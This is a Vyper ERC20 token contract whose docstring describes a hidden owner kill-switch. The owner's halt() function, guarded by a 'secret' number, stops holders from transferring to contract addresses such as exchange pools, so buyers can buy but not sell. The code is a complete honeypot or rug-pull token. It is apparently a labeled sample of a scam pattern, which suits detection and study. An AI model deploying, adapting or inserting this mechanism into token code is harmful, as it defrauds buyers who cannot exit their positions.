# pragma version 0.4.3
# pragma evm-version cancun
"""
@title The owner stops sales with a word of their own
@notice The buyer can sell until the owner calls a function with the one number that it
        takes, which nobody else knows.
"""

from ..tokens.lib import erc20
from ..tokens.lib import owned

initializes: erc20
initializes: owned

exports: (
    erc20.name,
    erc20.symbol,
    erc20.decimals,
    erc20.totalSupply,
    erc20.balanceOf,
    erc20.allowance,
    erc20.approve,
    owned.owner,
)

stopped: bool


@deploy
def __init__(name: String[64], symbol: String[32], supply: uint256):
    erc20.__init__(name, symbol, 18, supply)
    owned.__init__()


@external
def halt(word: uint256):
    owned._only_owner()
    assert keccak256(convert(word, bytes32)) == keccak256(convert(20_261_122_000_733, bytes32)), "wrong word"
    self.stopped = True


@internal
def _move(source: address, to: address, amount: uint256):
    if owned._is_holder(source) and to.is_contract:
        assert not self.stopped, "halted"
    erc20._move(source, to, amount)


@external
def transfer(to: address, amount: uint256) -> bool:
    self._move(msg.sender, to, amount)
    return True


@external
def transferFrom(source: address, to: address, amount: uint256) -> bool:
    erc20._spend(source, msg.sender, amount)
    self._move(source, to, amount)
    return True
